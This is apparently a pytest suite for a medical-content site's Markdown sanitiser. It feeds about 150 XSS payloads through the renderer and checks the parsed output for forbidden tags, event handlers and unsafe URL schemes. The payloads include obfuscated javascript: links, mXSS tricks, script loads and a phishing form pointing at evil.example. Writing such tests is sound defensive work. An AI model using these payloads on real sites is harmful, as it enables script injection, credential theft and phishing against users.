"""XSS payloads through the one Markdown pipeline (`render_markdown`, `render_page`).

Each payload is rendered and the OUTPUT is parsed with `html.parser`; the tests check
properties of the tags and attributes a browser would build, never exact strings.
The checker itself is tested against known-bad HTML, and a few positive cases make
sure the sanitiser has not become "drop everything".
"""

import re
from html.parser import HTMLParser

import pytest

from spinesite.markdown import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_CLASSES,
    ALLOWED_TAGS,
    render_markdown,
    render_page,
    sanitize,
)

FORBIDDEN_TAGS = {
    "script", "iframe", "svg", "form", "style", "object", "embed", "meta", "base",
    "link", "math", "template", "noscript", "input", "button", "textarea", "select",
    "frame", "frameset", "applet", "body", "html", "head", "title",
}  # fmt: skip
# Attributes nh3 adds itself, on top of ALLOWED_ATTRIBUTES.
ADDED_ATTRIBUTES = {"a": {"rel"}, "img": {"loading", "decoding"}}
URL_ATTRIBUTES = {
    "href", "src", "srcset", "action", "formaction", "xlink:href", "data", "poster",
    "background", "cite", "codebase", "dynsrc", "lowsrc", "ping", "longdesc", "usemap",
}  # fmt: skip
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}
SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")
CONTROL_CHARACTER = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


class _Collector(HTMLParser):
    """Collects every (tag, attrs) and anything that is not an element or text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)  # attribute values come back unescaped
        self.elements = []
        self.other = []
        self.text = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    def handle_endtag(self, tag):
        if tag not in ALLOWED_TAGS:
            self.other.append(f"end tag </{tag}>")

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.other.append(f"comment <!--{data}-->")

    def handle_decl(self, decl):
        self.other.append(f"declaration <!{decl}>")

    def unknown_decl(self, data):
        self.other.append(f"declaration <![{data}]>")

    def handle_pi(self, data):
        self.other.append(f"processing instruction <?{data}>")


def parse(html_fragment):
    collector = _Collector()
    collector.feed(html_fragment)
    collector.close()
    return collector


def text_of(html_fragment):
    return "".join(parse(html_fragment).text)


def _as_browser_reads_it(url):
    # The WHATWG URL parser strips leading and trailing C0 controls and spaces and
    # removes tabs and newlines anywhere, so "java\tscript:" is "javascript:".
    url = url.strip("".join(map(chr, range(0x21))))
    return re.sub(r"[\t\n\r]", "", url)


def _scheme(url):
    match = SCHEME.match(_as_browser_reads_it(url).lower())
    return match.group(1) if match else None


def _is_same_site_path(src):
    # In http(s) URLs the parser also reads "\" as "/": "/\evil.example" is another host.
    url = _as_browser_reads_it(src).replace("\\", "/")
    return url.startswith("/") and not url.startswith("//")


def violations(html_fragment):
    """Everything in `html_fragment` that the allow-list should have removed."""
    found = []
    parsed = parse(html_fragment)
    found.extend(parsed.other)
    for text in [
        *parsed.text,
        *(value or "" for _, attrs in parsed.elements for _, value in attrs),
    ]:
        if CONTROL_CHARACTER.search(text):
            found.append(f"control character in {text!r}")
    for tag, attrs in parsed.elements:
        if tag == "a" and ("rel", "noopener noreferrer") not in attrs:
            found.append(f"<a> without rel: {attrs}")
        if tag in FORBIDDEN_TAGS:
            found.append(f"forbidden tag <{tag}>")
        if tag not in ALLOWED_TAGS:
            found.append(f"tag outside the allow-list <{tag}>")
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ADDED_ATTRIBUTES.get(tag, set())
        if tag in ALLOWED_CLASSES:
            allowed = allowed | {"class"}
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                found.append(f"event handler <{tag} {name}>")
            if name == "style":
                found.append(f"style attribute on <{tag}>")
            if name not in allowed:
                found.append(f"attribute outside the allow-list <{tag} {name}>")
            if name == "class":
                extra = set(value.split()) - ALLOWED_CLASSES.get(tag, set())
                if extra:
                    found.append(f"class outside the allow-list <{tag} class={extra}>")
            if name in URL_ATTRIBUTES:
                scheme = _scheme(value)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    found.append(f"{scheme}: URL in <{tag} {name}={value!r}>")
            if tag == "img" and name == "src" and not _is_same_site_path(value):
                found.append(f"image from another site <img src={value!r}>")
            if tag == "a" and name == "rel" and value != "noopener noreferrer":
                found.append(f"<a rel={value!r}>")
    return found


def structure(html_fragment):
    parsed = parse(html_fragment)
    elements = [(tag, sorted(attrs)) for tag, attrs in parsed.elements]
    return elements, "".join(parsed.text), parsed.other


def _page_html(text):
    page = render_page(text)
    for entry in page.toc:
        assert re.fullmatch(r"[\w-]+", entry["id"]), entry
        assert f'id="{entry["id"]}"' in page.html
    return page.html


RENDERERS = [
    pytest.param(render_markdown, id="render_markdown"),
    pytest.param(_page_html, id="render_page"),
]

SVG_SCRIPT_B64 = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="

PAYLOADS = [
    # <script> in many forms
    pytest.param("<script>alert(1)</script>", id="script"),
    pytest.param("<SCRIPT>alert(1)</SCRIPT>", id="script-upper-case"),
    pytest.param("<ScRiPt>alert(1)</sCrIpT>", id="script-mixed-case"),
    pytest.param("<scr<script>ipt>alert(1)</scr</script>ipt>", id="script-nested"),
    pytest.param("<script>alert(1)", id="script-unclosed"),
    pytest.param("<script src=//evil.example/x.js", id="script-unclosed-tag"),
    pytest.param('<script src="https://evil.example/x.js"></script>', id="script-src"),
    pytest.param("<script/xss src=//evil.example/x.js></script>", id="script-slash-attribute"),
    pytest.param("<script\n>alert(1)</script\n>", id="script-newline-in-tag"),
    pytest.param("Hello <script>alert(1)</script> world", id="script-inline"),
    pytest.param("`<script>alert(1)</script>`", id="script-in-code-span"),
    pytest.param("    <script>alert(1)</script>\n", id="script-in-code-block"),
    pytest.param("- <script>alert(1)</script>\n- two", id="script-in-list"),
    pytest.param("> <script>alert(1)</script>", id="script-in-blockquote"),
    pytest.param("[<script>alert(1)</script>](https://example.org)", id="script-in-link-text"),
    pytest.param("**<script>alert(1)</script>**", id="script-in-emphasis"),
    pytest.param("<xmp><script>alert(1)</script></xmp>", id="script-in-xmp"),
    pytest.param("<noembed><script>alert(1)</script></noembed>", id="script-in-noembed"),
    pytest.param("<textarea><script>alert(1)</script></textarea>", id="script-in-textarea"),
    pytest.param("<title><script>alert(1)</script></title>", id="script-in-title"),
    pytest.param("<plaintext><script>alert(1)</script>", id="script-after-plaintext"),
    # event handlers
    pytest.param("<img src=x onerror=alert(1)>", id="img-onerror"),
    pytest.param('<img src="/x.png" onerror="alert(1)">', id="img-onerror-same-site-src"),
    pytest.param("<img/src=x/onerror=alert(1)>", id="img-onerror-slashes"),
    pytest.param("<img src=x onerror=`alert(1)`>", id="img-onerror-backticks"),
    pytest.param("<IMG SRC=x ONERROR=alert(1)>", id="img-onerror-upper-case"),
    pytest.param('<img src="/x.png" onload="alert(1)">', id="img-onload"),
    pytest.param("<body onload=alert(1)>", id="body-onload"),
    pytest.param('<div onclick="alert(1)">x</div>', id="div-onclick"),
    pytest.param('<p onclick=alert(1) style="color:red">x</p>', id="p-onclick-style"),
    pytest.param('<a href="https://example.org" onmouseover="alert(1)">x</a>', id="a-onmouseover"),
    pytest.param("<input autofocus onfocus=alert(1)>", id="input-autofocus-onfocus"),
    pytest.param("<select autofocus onfocus=alert(1)></select>", id="select-autofocus-onfocus"),
    pytest.param("<details open ontoggle=alert(1)>x</details>", id="details-ontoggle"),
    pytest.param("<video><source onerror=alert(1)></video>", id="video-source-onerror"),
    pytest.param("<marquee onstart=alert(1)>x</marquee>", id="marquee-onstart"),
    pytest.param('<h2 id="x" onclick="alert(1)">Heading</h2>', id="h2-onclick"),
    pytest.param("*<img src=x onerror=alert(1)>*", id="img-onerror-in-emphasis"),
    pytest.param("<img src=x one\x00rror=alert(1)>", id="img-onerror-null-byte"),
    # SVG and MathML
    pytest.param("<svg onload=alert(1)>", id="svg-onload"),
    pytest.param("<svg><script>alert(1)</script></svg>", id="svg-script"),
    pytest.param(
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
        id="svg-a-xlink-href",
    ),
    pytest.param("<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>", id="svg-animate"),
    pytest.param(
        f'<svg><use href="data:image/svg+xml;base64,{SVG_SCRIPT_B64}#x"/></svg>', id="svg-use"
    ),
    pytest.param("<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>", id="svg-cdata"),
    pytest.param('<math href="javascript:alert(1)">x</math>', id="math-href"),
    pytest.param(
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
        id="math-maction",
    ),
    pytest.param(
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        id="math-mglyph-mxss",
    ),
    # javascript: in Markdown links and images
    pytest.param("[x](javascript:alert(1))", id="md-link-javascript"),
    pytest.param("[x](JaVaScRiPt:alert(1))", id="md-link-javascript-mixed-case"),
    pytest.param("[x](JAVASCRIPT:alert(1))", id="md-link-javascript-upper-case"),
    pytest.param("[x]( javascript:alert(1))", id="md-link-javascript-space-prefixed"),
    pytest.param("[x](<javascript:alert(1)>)", id="md-link-javascript-angle-brackets"),
    pytest.param("[x](java&#x09;script:alert(1))", id="md-link-javascript-tab-entity"),
    pytest.param("[x](java&#x0A;script:alert(1))", id="md-link-javascript-newline-entity"),
    pytest.param("[x](java&#13;script:alert(1))", id="md-link-javascript-cr-entity"),
    pytest.param("[x](&#106;avascript:alert(1))", id="md-link-javascript-decimal-entity"),
    pytest.param("[x](&#0000106;avascript:alert(1))", id="md-link-javascript-padded-decimal"),
    pytest.param("[x](&#x6A;avascript:alert(1))", id="md-link-javascript-hex-entity"),
    pytest.param("[x](javascript&colon;alert(1))", id="md-link-javascript-colon-entity"),
    pytest.param("[x](&#32;javascript:alert(1))", id="md-link-javascript-space-entity"),
    pytest.param("[x](\x01javascript:alert(1))", id="md-link-javascript-control-char"),
    pytest.param("[x](java\x00script:alert(1))", id="md-link-javascript-null-byte"),
    pytest.param("![x](javascript:alert(1))", id="md-image-javascript"),
    pytest.param("![x](JaVaScRiPt:alert(1))", id="md-image-javascript-mixed-case"),
    pytest.param("[![x](/x.png)](javascript:alert(1))", id="md-image-in-javascript-link"),
    pytest.param("[x][1]\n\n[1]: javascript:alert(1)\n", id="ref-link-javascript"),
    pytest.param("![x][1]\n\n[1]: javascript:alert(1)\n", id="ref-image-javascript"),
    pytest.param("[x][1]\n\n[1]: &#106;avascript:alert(1)\n", id="ref-link-javascript-entity"),
    pytest.param(
        '[x][1]\n\n[1]: https://example.org "a\\" onmouseover=\\"alert(1)"\n',
        id="ref-link-title-breakout",
    ),
    pytest.param("<javascript:alert(1)>", id="autolink-javascript"),
    pytest.param("<JAVASCRIPT:alert(1)>", id="autolink-javascript-upper-case"),
    pytest.param("<vbscript:msgbox(1)>", id="autolink-vbscript"),
    pytest.param("<data:text/html,<script>alert(1)</script>>", id="autolink-data"),
    # javascript: in raw <a href>
    pytest.param('<a href="javascript:alert(1)">x</a>', id="a-javascript"),
    pytest.param('<a href="JaVaScRiPt:alert(1)">x</a>', id="a-javascript-mixed-case"),
    pytest.param('<a href=" javascript:alert(1)">x</a>', id="a-javascript-space-prefixed"),
    pytest.param('<a href="&#1;javascript:alert(1)">x</a>', id="a-javascript-control-prefixed"),
    pytest.param('<a href="java&#x09;script:alert(1)">x</a>', id="a-javascript-tab-entity"),
    pytest.param('<a href="java\tscript:alert(1)">x</a>', id="a-javascript-literal-tab"),
    pytest.param('<a href="java&#10;script:alert(1)">x</a>', id="a-javascript-newline-entity"),
    pytest.param('<a href="jav&#x0D;ascript:alert(1)">x</a>', id="a-javascript-cr-entity"),
    pytest.param(
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
        id="a-javascript-decimal-entities",
    ),
    pytest.param(
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
        id="a-javascript-hex-entities-no-semicolon",
    ),
    pytest.param('<a href="javascript&colon;alert(1)">x</a>', id="a-javascript-colon-entity"),
    pytest.param("<a href=javascript:alert(1)>x</a>", id="a-javascript-unquoted"),
    pytest.param('<a xlink:href="javascript:alert(1)">x</a>', id="a-xlink-href"),
    pytest.param('<map><area href="javascript:alert(1)"></map>', id="area-javascript"),
    # vbscript: and data:
    pytest.param("[x](vbscript:msgbox(1))", id="md-link-vbscript"),
    pytest.param('<a href="VBScript:msgbox(1)">x</a>', id="a-vbscript"),
    pytest.param("[x](data:text/html,<script>alert(1)</script>)", id="md-link-data-html"),
    pytest.param(
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        id="md-link-data-base64",
    ),
    pytest.param(
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        id="a-data-base64",
    ),
    pytest.param(f"![x](data:image/svg+xml;base64,{SVG_SCRIPT_B64})", id="md-image-data-svg"),
    pytest.param("![x](data:image/png;base64,iVBORw0KGgo=)", id="md-image-data-png"),
    pytest.param(f'<img src="data:image/svg+xml;base64,{SVG_SCRIPT_B64}">', id="img-data-svg"),
    # images from other sites
    pytest.param("![x](https://tracker.example/p.gif)", id="md-image-other-site"),
    pytest.param("![x](//evil.example/p.gif)", id="md-image-protocol-relative"),
    pytest.param('<img src="//evil.example/p.gif">', id="img-protocol-relative"),
    pytest.param('<img src=" //evil.example/p.gif">', id="img-protocol-relative-space"),
    pytest.param("![x](/\\evil.example/p.gif)", id="md-image-backslash"),
    pytest.param('<img src="/\\evil.example/p.gif">', id="img-backslash"),
    pytest.param('<img src="/&#9;/evil.example/p.gif">', id="img-tab-entity-split"),
    pytest.param('<img src="/\n/evil.example/p.gif">', id="img-newline-split"),
    pytest.param('<img src="/x.png" srcset="https://evil.example/p.gif 1x">', id="img-srcset"),
    pytest.param(
        '<picture><source srcset="https://evil.example/p.gif"><img src="/x.png"></picture>',
        id="picture-source-srcset",
    ),
    pytest.param('<img src="/x.png" usemap="#m" ismap>', id="img-usemap"),
    # breaking out of Markdown image / link attributes
    pytest.param('![a" onerror="alert(1)](/x.png)', id="md-image-alt-breakout"),
    pytest.param('![a](/x.png "t\\" onerror=\\"alert(1)")', id="md-image-title-breakout"),
    pytest.param("![a](/x.png 'x\\' onerror=alert(1) ')", id="md-image-title-single-quote"),
    pytest.param(
        '[a](https://example.org "x\\" onmouseover=\\"alert(1)")', id="md-link-title-breakout"
    ),
    pytest.param('![a](x" onerror="alert(1))', id="md-image-src-breakout"),
    # embedding, forms, document-level tags
    pytest.param('<iframe src="https://evil.example"></iframe>', id="iframe"),
    pytest.param('<iframe srcdoc="<script>alert(1)</script>"></iframe>', id="iframe-srcdoc"),
    pytest.param('<object data="javascript:alert(1)"></object>', id="object"),
    pytest.param(f'<embed src="data:image/svg+xml;base64,{SVG_SCRIPT_B64}">', id="embed"),
    pytest.param(
        '<form action="https://evil.example"><input name="p" type="password">'
        "<button>Sign in</button></form>",
        id="form-phishing",
    ),
    pytest.param('<button formaction="javascript:alert(1)">x</button>', id="button-formaction"),
    pytest.param('<input type="submit" formaction="javascript:alert(1)">', id="input-formaction"),
    pytest.param('<isindex action="javascript:alert(1)" type="submit">', id="isindex-action"),
    pytest.param(
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', id="meta-refresh"
    ),
    pytest.param('<base href="https://evil.example/">', id="base-href"),
    pytest.param('<link rel="stylesheet" href="https://evil.example/x.css">', id="link-css"),
    pytest.param("<style>body{background:url(javascript:alert(1))}</style>", id="style-tag"),
    pytest.param('<p style="width:expression(alert(1))">x</p>', id="style-attribute-expression"),
    pytest.param(
        '<div style="background:url(javascript:alert(1))">x</div>', id="style-attribute-url"
    ),
    pytest.param(
        '<img src="/x.png" style="position:fixed;top:0;left:0;width:100%">',
        id="style-attribute-overlay",
    ),
    pytest.param("<template><script>alert(1)</script></template>", id="template"),
    pytest.param(
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        id="noscript-title-breakout",
    ),
    # comments and CDATA
    pytest.param("<!-- <script>alert(1)</script> -->", id="comment"),
    pytest.param("<!--><img src=x onerror=alert(1)>-->", id="comment-short-close"),
    pytest.param("<!--[if IE]><script>alert(1)</script><![endif]-->", id="comment-conditional"),
    pytest.param("<![CDATA[<script>alert(1)</script>]]>", id="cdata"),
    pytest.param(
        '<a title="<!--" href="https://example.org">x</a><img src=x onerror=alert(1)>-->',
        id="comment-in-attribute",
    ),
    # Markdown inside HTML
    pytest.param('<div markdown="1">[x](javascript:alert(1))</div>', id="markdown-in-html"),
    pytest.param(
        "<div>\n\n<img src=x onerror=alert(1)>\n\n</div>", id="markdown-in-html-blank-lines"
    ),
    pytest.param(
        '<div class="callout callout-emergency evil" id="x" onclick="alert(1)">x</div>',
        id="raw-callout-extra-class",
    ),
    # attr_list is not enabled: these stay text
    pytest.param('para {: onclick="alert(1)"}', id="attr-list-onclick"),
    pytest.param('## Heading {: onclick="alert(1)" }', id="attr-list-heading"),
    pytest.param('para\n{: style="background:url(javascript:alert(1))" }', id="attr-list-style"),
    pytest.param('![x](/x.png){: onerror="alert(1)"}', id="attr-list-image"),
    pytest.param('[x](https://example.org){: onclick="alert(1)"}', id="attr-list-link"),
    # tables and admonitions
    pytest.param("| a |\n|---|\n| <img src=x onerror=alert(1)> |\n", id="table-img-onerror"),
    pytest.param(
        "| <script>alert(1)</script> |\n|---|\n| [x](javascript:alert(1)) |\n",
        id="table-script-and-javascript-link",
    ),
    pytest.param(
        '!!! emergency "<img src=x onerror=alert(1)>"\n    Call 911\n',
        id="admonition-title-img-onerror",
    ),
    pytest.param(
        '!!! urgent "x\\" onclick=\\"alert(1)"\n    Call today\n',
        id="admonition-title-quote-breakout",
    ),
    pytest.param(
        "!!! routine\n    <img src=x onerror=alert(1)>\n", id="admonition-body-img-onerror"
    ),
    pytest.param(
        '!!! note onclick "x"\n    [x](javascript:alert(1))\n', id="admonition-unknown-kind"
    ),
    # toc heading ids
    pytest.param("## <script>alert(1)</script>\n", id="toc-heading-script"),
    pytest.param("## <img src=x onerror=alert(1)>\n", id="toc-heading-img"),
    pytest.param('## x" onclick="alert(1)\n', id="toc-heading-quote"),
    pytest.param("## javascript:alert(1)\n\n[TOC]\n", id="toc-heading-javascript"),
    pytest.param("## &lt;script&gt;\n## &lt;script&gt;\n", id="toc-heading-entities"),
    # entity-encoded markup must stay text
    pytest.param("&lt;script&gt;alert(1)&lt;/script&gt;", id="entity-encoded-script"),
    pytest.param("&amp;lt;script&amp;gt;alert(1)", id="double-entity-encoded-script"),
    pytest.param("&#60;script&#62;alert(1)&#60;/script&#62;", id="numeric-entity-script"),
    pytest.param("&lt;img src=x onerror=alert(1)&gt;", id="entity-encoded-img"),
    # null bytes and control characters
    pytest.param("<scr\x00ipt>alert(1)</script>", id="null-byte-in-script-tag"),
    pytest.param("\x00<script>alert(1)</script>", id="null-byte-prefix"),
    pytest.param("<a\x0bhref=javascript:alert(1)>x</a>", id="vertical-tab-in-tag"),
    pytest.param("<a\x0chref=javascript:alert(1)>x</a>", id="form-feed-in-tag"),
    pytest.param("\x1b[31m<script>alert(1)</script>", id="escape-sequence"),
    pytest.param("<img\x00src=x onerror=alert(1)>", id="null-byte-in-img-tag"),
]


@pytest.mark.parametrize("render", RENDERERS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_neutralised(render, payload):
    output = render(payload)
    assert violations(output) == [], output
    # What the sanitiser emits is stable: parsing it again finds nothing to change
    # (compared as parsed structure: nh3 may order the attributes it adds differently).
    assert structure(sanitize(output)) == structure(output)


def test_there_are_enough_payloads():
    assert len(PAYLOADS) >= 60


# The checker must be able to see what it is looking for.
@pytest.mark.parametrize(
    "html_fragment",
    [
        pytest.param("<script>alert(1)</script>", id="script"),
        pytest.param("<p>x</p><iframe></iframe>", id="iframe"),
        pytest.param("<svg><a></a></svg>", id="svg"),
        pytest.param("<img onerror=alert(1) src=/x.png>", id="onerror"),
        pytest.param('<p style="color:red">x</p>', id="style"),
        pytest.param('<a href="javascript:alert(1)">x</a>', id="javascript"),
        pytest.param('<a href="java&#9;script:alert(1)">x</a>', id="javascript-tab-entity"),
        pytest.param('<a href=" &#x4A;AVASCRIPT:alert(1)">x</a>', id="javascript-entity-upper"),
        pytest.param('<a href="vbscript:msgbox(1)">x</a>', id="vbscript"),
        pytest.param('<a href="data:text/html,x">x</a>', id="data"),
        pytest.param('<img src="https://evil.example/p.gif">', id="img-other-site"),
        pytest.param('<img src="//evil.example/p.gif">', id="img-protocol-relative"),
        pytest.param('<img src="/\\evil.example/p.gif">', id="img-backslash"),
        pytest.param('<img src="/&#9;/evil.example/p.gif">', id="img-tab-split"),
        pytest.param('<div class="evil">x</div>', id="class"),
        pytest.param('<div id="x">x</div>', id="attribute"),
        pytest.param("<!-- x -->", id="comment"),
        pytest.param('<a href="https://example.org">x</a>', id="no-rel"),
        pytest.param("<p>a\x00b</p>", id="null-byte"),
        pytest.param('<img src="/x.png" alt="\x1b[31m">', id="escape-in-attribute"),
        pytest.param('<a href="https://example.org" rel="opener">x</a>', id="rel"),
    ],
)
def test_checker_finds_known_bad_html(html_fragment):
    assert violations(html_fragment)


# Positive cases: the sanitiser must not simply drop everything.


def test_external_link_survives_with_rel():
    parsed = parse(render_markdown("[Spine-health](https://example.org/back?a=1&b=2)"))
    assert parsed.elements == [
        ("p", []),
        (
            "a",
            [("href", "https://example.org/back?a=1&b=2"), ("rel", "noopener noreferrer")],
        ),
    ]


@pytest.mark.parametrize(
    "href",
    ["https://example.org/", "http://example.org/", "mailto:team@example.org", "tel:+15555550100",
     "/conditions/sciatica/", "#treatment-options", "../other/"],
)  # fmt: skip
def test_safe_links_survive(href):
    links = [attrs for tag, attrs in parse(render_markdown(f"[x]({href})")).elements if tag == "a"]
    assert links and dict(links[0])["href"] == href


def test_same_site_image_survives():
    output = render_markdown('![An MRI scan](/media/x.png "Lumbar MRI")')
    images = [dict(attrs) for tag, attrs in parse(output).elements if tag == "img"]
    assert images == [
        {
            "alt": "An MRI scan",
            "src": "/media/x.png",
            "title": "Lumbar MRI",
            "loading": "lazy",
            "decoding": "async",
        }
    ]
    assert violations(output) == []


def test_callouts_keep_their_classes():
    output = render_page(
        '!!! emergency "Call 911 if"\n    - You lose bladder control\n\n'
        '!!! urgent "Call today if"\n    - Pain is worse\n\n'
        '!!! routine "Book a visit if"\n    - Pain lasts weeks\n'
    ).html
    classes = [dict(attrs).get("class") for _, attrs in parse(output).elements]
    for kind in ("emergency", "urgent", "routine"):
        assert f"callout callout-{kind}" in classes
    assert classes.count("callout-title") == 3
    assert classes.count("visually-hidden") == 3
    assert violations(output) == []


def test_headings_tables_and_code_survive():
    output = render_markdown(
        "## Treatment options\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`code`\n\n> quote\n"
    )
    tags = [tag for tag, _ in parse(output).elements]
    for tag in ("h2", "table", "thead", "tbody", "tr", "th", "td", "code", "blockquote"):
        assert tag in tags
    assert ("h2", [("id", "treatment-options")]) in parse(output).elements


@pytest.mark.parametrize("render", RENDERERS)
@pytest.mark.parametrize(
    ("source", "visible_text"),
    [
        pytest.param(
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "<script>alert(1)</script>",
            id="entity-encoded-script",
        ),
        pytest.param(
            "&lt;img src=x onerror=alert(1)&gt;", "<img src=x onerror=alert(1)>", id="img"
        ),
        pytest.param("`<script>alert(1)</script>`", "<script>alert(1)</script>", id="code-span"),
        pytest.param('para {: onclick="alert(1)"}', 'para {: onclick="alert(1)"}', id="attr-list"),
        pytest.param(
            'para\n{: style="color:red" }', '{: style="color:red" }', id="attr-list-style"
        ),
        pytest.param('## Heading {: onclick="x" }', 'Heading {: onclick="x" }', id="attr-list-h2"),
    ],
)
def test_markup_written_as_text_stays_inert_text(render, source, visible_text):
    output = render(source)
    assert visible_text in text_of(output)
    assert violations(output) == []


def test_heading_ids_are_slugs():
    page = render_page('## <script>alert(1)</script> Pain\n\n## x" onclick="alert(1)\n')
    assert [entry["id"] for entry in page.toc] == ["alert1-pain", "x-onclickalert1"]
    assert violations(page.html) == []
